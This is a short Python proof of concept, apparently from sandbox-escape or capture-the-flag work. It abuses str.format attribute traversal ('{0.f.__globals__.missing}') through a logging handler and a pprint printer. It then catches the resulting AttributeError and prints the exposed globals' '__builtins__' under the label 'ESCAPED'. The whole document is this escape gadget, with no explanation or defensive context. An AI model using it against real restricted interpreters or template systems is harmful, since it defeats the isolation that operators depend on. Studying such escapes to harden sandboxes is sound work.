# AttributeError.obj of a template that the library fills in.
import logging, pprint
class K:
    def f(self): pass
template = "{0.f.__globals__.missing}"
handler = logging.Handler()
handler.formatter = template
printer = pprint.PrettyPrinter()
printer.format = template.format
class P(pprint.PrettyPrinter): format = template.format
for fill in (lambda: handler.format(K()), lambda: pprint.PrettyPrinter.isreadable(printer, K())):
    try: fill()
    except AttributeError as e: print("ESCAPED", e.obj["__builtins__"])
    except Exception: pass
